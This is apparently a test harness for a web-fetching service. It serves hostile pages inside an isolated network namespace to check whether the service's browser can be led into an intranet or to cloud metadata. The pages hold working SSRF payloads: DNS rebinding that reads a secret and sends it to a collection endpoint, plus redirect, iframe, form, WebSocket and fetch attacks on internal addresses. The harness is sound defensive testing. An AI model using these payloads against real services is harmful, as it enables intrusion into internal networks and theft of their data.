/**
 * Run in a network namespace of its own (intranet.test.ts), where it gives the loopback interface a public address and private
 * ones. Serves hostile public pages and an intranet, starts the service over them with its own browser, tries each attack, and
 * prints what came of it as JSON. Arguments: the browser's program; `cluster` for two nodes over engines of their own.
 */
import { setTimeout as sleep } from "node:timers/promises";
import { execFile, spawn } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { natsNodeDirectory } from "../../cluster/adapters/nodes/node-directory.nats.ts";
import { start } from "../../ops/engines/adapters/process.ts";
import { ENGINES, type Engine } from "../../ops/engines/engine.ts";
import { find, placeOf } from "../../ops/engines/install.ts";
import type { FetchBody, FetchResponse } from "../../schemas/fetch.ts";
import { dnsServer } from "../harness/dns-server.ts";
import { programWords } from "../harness/program-words.ts";
import { secretsFileIn } from "../harness/secrets.ts";
import { settled } from "../harness/settled.ts";
import { article } from "../harness/web.ts";

const [PUBLIC, INTRANET, OTHER_INTRANET, METADATA] = ["11.0.0.1", "10.0.0.7", "10.0.0.8", "169.254.169.254"];
const SECRET = "the secret of the intranet";

/** Requests to the intranet, as "address method path". */
const inside: string[] = [];
/** Secrets that hostile pages sent home. */
const stolen: string[] = [];

const zone: Record<string, string[]> = {
  "public.test": [PUBLIC],
  "frames.test": [PUBLIC],
  "rebind.test": [PUBLIC],
  "wiki.test": [INTRANET],
  "shop.test": [INTRANET],
  "other.test": [OTHER_INTRANET],
};
const names = await dnsServer(zone);

const server = createServer((request, response) => {
  // Each request has a connection of its own, so that each could be led elsewhere.
  response.setHeader("Connection", "close");
  response.setHeader("Content-Type", "text/html; charset=utf-8");
  const at = request.socket.localAddress!.replace("::ffff:", "");
  const { pathname, search } = new URL(request.url!, "http://x");
  if (pathname === "/robots.txt" && at === PUBLIC) return void response.writeHead(404).end();
  if (at !== PUBLIC) {
    inside.push(`${at} ${request.method} ${pathname}`);
    if (pathname === "/robots.txt") return void response.writeHead(404).end();
    return void response.end(INSIDE_PAGES[pathname] ?? article(SECRET));
  }
  if (pathname === "/flip") {
    zone["rebind.test"] = [INTRANET];
    return void response.end();
  }
  if (pathname === "/home") {
    stolen.push(decodeURIComponent(search.slice(1)));
    return void response.end();
  }
  if (pathname === "/to-intranet")
    return void response.writeHead(302, { Location: `${wiki}/redirected` }).end();
  response.end(PUBLIC_PAGES[pathname] ?? article("Public"));
});
server.on("upgrade", (request, socket) => {
  inside.push(`${request.socket.localAddress} UPGRADE ${request.url}`);
  socket.destroy();
});
server.listen(0, "0.0.0.0");
await once(server, "listening");
const { port } = server.address() as AddressInfo;
const [open, rebind, wiki, other] = ["public", "rebind", "wiki", "other"].map(
  (name) => `http://${name}.test:${port}`,
) as [string, string, string, string];

const scripted = (script: string, html = ""): string =>
  `${article("Public")}${html}<script type="module">${script}; document.title = "done"</script>`;
const trial = (work: string): string => `await (${work}).catch(() => {})`;
const PUBLIC_PAGES: Readonly<Record<string, string>> = {
  "/rebind": scripted(
    `await fetch("/flip");
     const text = await fetch("/secret").then((answer) => answer.text()).catch(() => "");
     await fetch("${open}/home?" + encodeURIComponent(text), { mode: "no-cors" }).catch(() => {})`,
  ),
  "/frame": scripted("", `<iframe src="${wiki}/framed"></iframe>`),
  "/get": scripted(trial(`fetch("${wiki}/get", { mode: "no-cors" })`)),
  "/post": scripted(
    trial(`fetch("http://${INTRANET}:${port}/post", { method: "POST", mode: "no-cors", body: "x" })`),
  ),
  "/redirect": scripted(trial('fetch("/to-intranet", { mode: "no-cors" })')),
  "/form": `${article("Public")}<form method="post" action="${wiki}/form"></form><script>document.forms[0].submit()</script>`,
  "/navigate": `${article("Public")}<script>location = "${wiki}/navigated"</script>`,
  "/socket": scripted(
    `await new Promise((resolve) => (new WebSocket("${wiki.replace("http", "ws")}/socket").onerror = resolve))`,
  ),
};
const INSIDE_PAGES: Readonly<Record<string, string>> = {
  "/own": `${article("Intranet")}<script src="/own.js"></script>`,
  "/own.js": 'document.title = "its script ran"',
  "/links": `${article("Intranet")}<script src="${other}/stranger.js"></script><iframe src="http://frames.test:${port}/"></iframe>`,
  "/moved": `<script>location = "${other}/arrived"</script>`,
};

const TITLE = /<title>([^<]*)/;
const folder = mkdtempSync(join(tmpdir(), "trawl-intranet-"));
const KEY = "ak_intranet_0123456789abcdef";
const SERVICE_PORT = 8_080;
const [, , chromium = "", shape] = process.argv;

/** In this namespace, as nothing outside it can be reached. */
async function startEngines(): Promise<Engine[]> {
  const place = placeOf(process.env, homedir(), false, () => {});
  return Promise.all(
    ENGINES.map(async (name) => {
      const found = await find(name, place);
      if (found.kind !== "program") throw new Error(`There is no engine "${name}"`);
      return start(found.program);
    }),
  );
}

const engines = shape === "cluster" ? await startEngines() : [];
const shared = Object.assign({}, ...engines.map(({ settings }) => settings)) as Record<string, string>;
const nodes = (engines.length === 0 ? ["one"] : ["one", "two"]).map((node, place) => ({
  PATH: process.env["PATH"] ?? "",
  PORT: String(SERVICE_PORT),
  TRAWL_DATA_DIR: join(folder, node),
  TRAWL_ADMIN_KEY: KEY,
  TRAWL_DNS_SERVERS: names.address,
  TRAWL_EGRESS_ALLOW: `10.0.0.0/8,127.0.0.0/8,${METADATA}/16`,
  TRAWL_ARCHIVE_URL: "none",
  TRAWL_DEMO: "off",
  TRAWL_POLITE_DELAY_MS: "5",
  TRAWL_CHROMIUM_PATH: chromium,
  TRAWL_CHROMIUM_SANDBOX: "auto",
  ...(engines.length > 0 && {
    ...shared,
    TRAWL_SECRETS_KEY_FILE: secretsFileIn(folder),
    TRAWL_SEARXNG_URLS: "http://127.0.0.1:9/",
    TRAWL_STATUS_PORT: String(SERVICE_PORT + 1 + place),
  }),
}));
const environment = nodes[0]!;
const programs = nodes.map((env) =>
  spawn(process.execPath, [...programWords(), "start"], { env, stdio: ["ignore", "pipe", "inherit"] }),
);
const ended = programs.map((program) => once(program, "close"));
await Promise.all(
  programs.map((program, place) => Promise.race([once(program.stdout, "data"), ended[place]])),
);
if (engines.length > 0) {
  const directory = await natsNodeDirectory(shared["TRAWL_BUS"]!);
  await settled(directory, nodes.length);
  await directory.close();
}

async function trawl(...words: string[]): Promise<any> {
  const { stdout } = await promisify(execFile)(process.execPath, [...programWords(), ...words, "--json"], {
    env: environment,
  });
  return JSON.parse(stdout);
}

/** The result of a fetch, and the requests to the intranet for it; robots.txt apart. */
async function outcome(url: string, tier: "direct" | "browser", more: Partial<FetchBody> = {}, key?: string) {
  const before = inside.length;
  const body: FetchBody = { url, tiers: [tier], include_html: true, cache_ttl_s: 0, timeout_s: 40, ...more };
  const answer = await fetch(`http://127.0.0.1:${SERVICE_PORT}/v1/fetch`, {
    method: "POST",
    headers: { authorization: `Bearer ${key ?? KEY}` },
    body: JSON.stringify(body),
  });
  const { error, html, cached, attempts } = (await answer.json()) as FetchResponse;
  return {
    error,
    title: TITLE.exec(html ?? "")?.[1] ?? null,
    ...(cached && { cached }),
    ...(error !== null && { reasons: attempts.map(({ reason }) => reason) }),
    asked: inside.slice(before),
  };
}

/** Settings of projects take effect within seconds; a tighter loop would meet the rate limit. */
const POLL_MS = 50;
const results: Record<string, unknown> = {};
try {
  for (const attack of Object.keys(PUBLIC_PAGES))
    results[attack] = await outcome(`${attack === "/rebind" ? rebind : open}${attack}`, "browser");
  results["stolen"] = stolen;
  results["direct redirect"] = await outcome(`${open}/to-intranet`, "direct");
  results["browser redirect"] = await outcome(`${open}/to-intranet`, "browser");
  results["own direct"] = await outcome(`${wiki}/own`, "direct");
  results["own browser"] = await outcome(`${wiki}/own`, "browser");
  results["links"] = await outcome(`${wiki}/links`, "browser");
  results["moved"] = await outcome(`${wiki}/moved`, "browser");
  results["metadata"] = await outcome(`http://${METADATA}:${port}/latest`, "direct");

  // A second customer: the allowance of the service is nobody's any more.
  await trawl("project", "create", "second", "--customer", "another", "--new-customer");
  const second = (await trawl("key", "create", "--project", "second")).key as string;
  const shop = `http://shop.test:${port}/page`;
  const untilBlocked = async (): Promise<void> => {
    while ((await outcome(`${wiki}/own`, "direct")).error === null) await sleep(POLL_MS);
  };
  await untilBlocked();
  results["second, direct"] = await outcome(shop, "direct", {}, second);
  results["second, browser"] = await outcome(shop, "browser", {}, second);
  await trawl("project", "allow-network", "second", "10.0.0.0/24");
  let allowed = await outcome(shop, "direct", {}, second);
  for (; allowed.error !== null; await sleep(POLL_MS)) allowed = await outcome(shop, "direct", {}, second);
  results["second, allowed"] = allowed;
  results["second, cached"] = await outcome(shop, "direct", { cache_ttl_s: 3_600 }, second);
  results["first, not from the cache of the second"] = await outcome(shop, "direct", { cache_ttl_s: 3_600 });
  results["networks"] = (await trawl("project", "list")).map(
    ({ name, networks = [] }: { name: string; networks?: string[] }) => [name, networks],
  );
  process.stdout.write(`${JSON.stringify(results)}\n`);
} finally {
  for (const program of programs) program.kill("SIGTERM");
  await Promise.all(ended);
  for (const engine of engines) await engine.stop();
  rmSync(folder, { recursive: true });
  server.closeAllConnections();
  server.close();
  await names.close();
}
